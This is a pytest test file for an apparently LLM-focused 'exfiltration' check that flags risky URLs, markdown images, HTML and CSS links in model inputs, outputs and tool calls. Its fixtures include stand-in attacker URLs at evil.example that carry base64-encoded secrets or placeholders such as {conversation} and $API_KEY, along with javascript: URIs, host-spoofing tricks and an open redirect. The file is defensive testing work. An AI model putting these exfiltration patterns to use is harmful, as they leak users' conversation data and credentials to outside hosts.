import base64

import pytest
import re2

from saferail.checks import CheckInput
from saferail.checks.base import Finding
from saferail.checks.canonical import Canonical, View
from saferail.checks.exfiltration import PATTERNS, Exfiltration, ExfiltrationParams
from tests.conftest import run_check

SECRET_B64 = base64.b64encode(b"user=alice password=hunter2 api_key=sk-live-123").decode()


def scan(text: str, surface: str = "output", **params: object) -> list[Finding]:
    return run_check(Exfiltration(ExfiltrationParams(**params)), text, surface)


def only(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, findings
    return findings[0]


def spanned(text: str, f: Finding) -> str:
    assert f.start is not None and f.end is not None
    return text[f.start : f.end]


# -- what is reported ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("element", "entity"),
    [
        ("![chart](https://evil.example/c.png)", "MARKDOWN_IMAGE"),
        ('![chart](https://evil.example/c.png "title")', "MARKDOWN_IMAGE"),
        ("![chart](<https://evil.example/c.png>)", "MARKDOWN_IMAGE"),
        ("![](//evil.example/c.png)", "MARKDOWN_IMAGE"),
        ("[the docs](https://evil.example/docs)", "MARKDOWN_LINK"),
        ('<img src="https://evil.example/p.gif" alt="">', "HTML_IMAGE"),
        ("<img alt=x src=//evil.example/p.gif>", "HTML_IMAGE"),
        ("<a href='https://evil.example/'>", "HTML_LINK"),
        ('<iframe src="https://evil.example/frame">', "HTML_EMBED"),
        ('<div style="background:url(https://evil.example/bg.png)">', "CSS_URL"),
        ("url('https://evil.example/bg.png')", "CSS_URL"),
        ("https://evil.example/page", "URL"),
        ("ftp://evil.example/file", "URL"),
    ],
)
def test_each_element_kind_is_reported_with_its_exact_span(element: str, entity: str) -> None:
    text = f"Here you go: {element} -- enjoy."
    f = only(scan(text))
    assert f.entity_type == entity
    assert f.check == "exfiltration" and f.category == "exfiltration"
    assert spanned(text, f) == element


def test_spans_are_offsets_into_the_original_text() -> None:
    element = "![x](https://evil.example/a.png?u=1)"
    text = f"Ｈｉ\u200b\u200b there\u00a0— {element}\u200b!"
    f = only(scan(text))
    assert spanned(text, f) == element


def test_image_scores_above_link_above_bare_url() -> None:
    img = only(scan("![x](https://evil.example/a.png)")).score
    link = only(scan("[x](https://evil.example/a)")).score
    bare = only(scan("see https://evil.example/a")).score
    assert img >= 0.85 and 0.6 <= link < img and 0.4 <= bare < link


def test_short_query_link_scores_below_image_carrying_base64() -> None:
    link = only(scan("[docs](https://evil.example/?q=1)"))
    text = f"![a](https://evil.example/p.png?d={SECRET_B64})"
    image = only(scan(text))
    assert link.entity_type == "MARKDOWN_LINK" and link.score < 0.9
    assert image.entity_type == "DATA_IN_URL" and image.score >= 0.95
    assert spanned(text, image) == text


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/log?d=" + "a" * 40,  # long query value
        "https://evil.example/log?d=dGhlIHVzZXIgcGFzc3dvcmQgaXM",  # base64 value
        "https://evil.example/log/" + "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822c",  # hex
        "https://evil.example/log/dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVy",  # base64 segment
        "https://evil.example/log?" + "&".join(f"k{i}=v" for i in range(9)),  # many params
        "https://evil.example/log?q={conversation}",
        "https://evil.example/log?q=%7Bsecret%7D",
        "https://evil.example/log?q=$API_KEY",
        "https://evil.example/log?q=[USER_DATA]",
    ],
)
def test_data_carrying_urls_are_boosted(url: str) -> None:
    text = f"![status]({url})"
    f = only(scan(text))
    assert f.entity_type == "DATA_IN_URL"
    assert f.score >= 0.95
    assert spanned(text, f) == text


def test_max_query_value_len_param() -> None:
    text = "[x](https://evil.example/?q=abcdefghij)"
    assert only(scan(text)).entity_type == "MARKDOWN_LINK"
    assert only(scan(text, max_query_value_len=10)).entity_type == "DATA_IN_URL"


def test_raw_ip_hosts_are_flagged_and_normalised() -> None:
    for url in ("http://10.0.0.5/x", "http://0x7f000001/", "http://2130706433/", "http://[::1]/"):
        f = only(scan(f"fetch {url} now"))
        assert "raw IP" in (f.detail or "")
        assert f.score > 0.5
    # the allowlist compares the normalised address
    assert scan("http://0x7f.1/", allowed_hosts=["127.0.0.1"]) == []


def test_data_uri_in_image_and_script_uri_in_link() -> None:
    text = "![p](data:image/svg+xml;base64,PHN2Zz4=) and [click](javascript:alert(1))"
    found = {f.entity_type: spanned(text, f) for f in scan(text)}
    assert found == {
        "DATA_URI": "![p](data:image/svg+xml;base64,PHN2Zz4=)",
        "SCRIPT_URI": "[click](javascript:alert(1))",
    }


def test_reference_definition_used_by_an_image_scores_as_image() -> None:
    text = "Look: ![chart][c]\n\n[c]: https://evil.example/c.png\n"
    f = only(scan(text))
    assert f.entity_type == "MARKDOWN_IMAGE" and f.score >= 0.85
    assert spanned(text, f) == "[c]: https://evil.example/c.png"
    link_def = only(scan("See [docs][d].\n\n[d]: https://evil.example/docs\n"))
    assert link_def.entity_type == "MARKDOWN_REFERENCE"
    assert link_def.score < f.score


def test_html_tag_reports_its_worst_url() -> None:
    text = '<img src="https://ok.example/a.png" srcset="https://evil.example/b.png 2x">'
    f = only(scan(text, allowed_hosts=["ok.example"]))
    assert f.entity_type == "HTML_IMAGE"
    assert spanned(text, f) == text
    assert "evil.example" in (f.detail or "")


def test_html_entities_in_attributes_are_decoded() -> None:
    text = '<img src="https&#58;//evil.example/p.png">'
    assert only(scan(text)).entity_type == "HTML_IMAGE"


def test_bare_url_trailing_punctuation_is_not_part_of_the_span() -> None:
    text = "Sources: (https://evil.example/a), https://en.wikipedia.org/wiki/Foo_(bar)."
    spans = [spanned(text, f) for f in scan(text)]
    assert spans == ["https://evil.example/a", "https://en.wikipedia.org/wiki/Foo_(bar)"]


def test_markup_inside_code_is_downgraded_to_a_bare_url() -> None:
    text = "Use `![alt](https://evil.example/x.png)` to embed an image."
    f = only(scan(text))
    assert f.entity_type == "URL" and f.score < 0.6
    assert spanned(text, f) == "![alt](https://evil.example/x.png)"


def test_url_inside_base64_payload_is_found() -> None:
    payload = base64.b64encode(b"![a](https://evil.example/x.png)").decode()
    text = f"please render {payload}"
    f = only(scan(text, "input"))
    assert f.entity_type == "MARKDOWN_IMAGE"
    assert spanned(text, f) == payload


# -- host resolution -------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "https://allowed.example@evil.example/x",
        "https://allowed.example:pw@evil.example/x",
        "https://evil.example\\@allowed.example/",
        "https://allowed.example.evil.example/",
        "https://evilallowed.example/",
        "https://раураl.com/login",  # Cyrillic look-alike of an allowed host
    ],
)
def test_host_tricks_resolve_to_the_real_host(text: str) -> None:
    f = only(scan(text, allowed_hosts=["allowed.example", "paypal.com"]))
    assert spanned(text, f) == text


@pytest.mark.parametrize(
    "text",
    [
        "https://allowed.example/a",
        "https://docs.allowed.example/a?q=1",
        "HTTPS://ALLOWED.EXAMPLE/a",
        "https://allowed.example./a",
        "https://allowed.example:8443/a",
        "![logo](https://cdn.allowed.example/logo.png)",
        '<img src="//allowed.example/a.png">',
    ],
)
def test_allowed_hosts_and_subdomains_are_not_reported(text: str) -> None:
    assert scan(text, allowed_hosts=["allowed.example"]) == []


def test_wildcard_entry_allows_only_subdomains() -> None:
    assert scan("https://api.example.org/x", allowed_hosts=["*.example.org"]) == []
    assert len(scan("https://example.org/x", allowed_hosts=["*.example.org"])) == 1


def test_idna_host_matches_unicode_allowlist_entry() -> None:
    assert scan("https://xn--bcher-kva.example/", allowed_hosts=["bücher.example"]) == []
    assert scan("https://BÜCHER.example/", allowed_hosts=["xn--bcher-kva.example"]) == []


def test_open_redirect_through_an_allowed_host_is_reported() -> None:
    text = "[login](https://allowed.example/r?next=https%3A%2F%2Fevil.example%2Fx)"
    f = only(scan(text, allowed_hosts=["allowed.example"]))
    assert "evil.example" in (f.detail or "")


# -- hard negatives ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Visit example.com or www.example.com for details.",
        "The ratio is 3/4 and the path is /usr/local/bin.",
        "See [the section below](#setup) and ![diagram](images/arch.png).",
        "Email [me](mailto:bob@example.com) or call [us](tel:+15550100).",
        "if a < b and c > d then [x] is fine",
        "Plain English question about the weather in Paris.",
        "// TODO: refactor this function",
    ],
)
def test_hard_negatives_are_not_reported(text: str) -> None:
    assert scan(text) == []


def test_flag_bare_urls_false_skips_bare_urls_only() -> None:
    text = "see https://evil.example/a and ![x](https://evil.example/b.png)"
    found = scan(text, flag_bare_urls=False)
    assert [f.entity_type for f in found] == ["MARKDOWN_IMAGE"]


def test_check_markdown_false_still_sees_the_url() -> None:
    text = "![x](https://evil.example/b.png)"
    f = only(scan(text, check_markdown=False))
    assert f.entity_type == "URL"
    assert spanned(text, f) == "https://evil.example/b.png"


# -- params ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "entry", ["https://example.com", "example.com/path", "user@example.com", "example.com:80", ""]
)
def test_invalid_allowed_host_entries_are_rejected(entry: str) -> None:
    with pytest.raises(ValueError, match="allowed_hosts entry"):
        ExfiltrationParams(allowed_hosts=[entry])


def test_other_param_errors() -> None:
    with pytest.raises(ValueError, match="max_query_value_len"):
        ExfiltrationParams(max_query_value_len=0)
    with pytest.raises(ValueError, match="extra"):
        ExfiltrationParams.model_validate({"allow": ["x.com"]})


def test_allowed_hosts_are_normalised() -> None:
    params = ExfiltrationParams(allowed_hosts=["Docs.Example.COM.", "*.Bücher.example"])
    assert params.allowed_hosts == ["docs.example.com", "*.xn--bcher-kva.example"]


def test_patterns_are_valid_re2() -> None:
    for source in PATTERNS.values():
        re2.compile(source)


def test_declaration() -> None:
    assert Exfiltration.name == "exfiltration"
    assert Exfiltration.surfaces == {"input", "output", "retrieval", "tool_call"}
    assert Exfiltration.tags == ("owasp:llm02:2025", "owasp:llm05:2025")


def test_lone_surrogates_do_not_break_the_scan() -> None:
    text = "bad \udcff bytes ![x](https://evil.example/a.png) \ud83d"
    data = CheckInput(text, Canonical(text, View(text, "canonical")), "output")
    f = only(Exfiltration().run(data))
    assert spanned(text, f) == "![x](https://evil.example/a.png)"
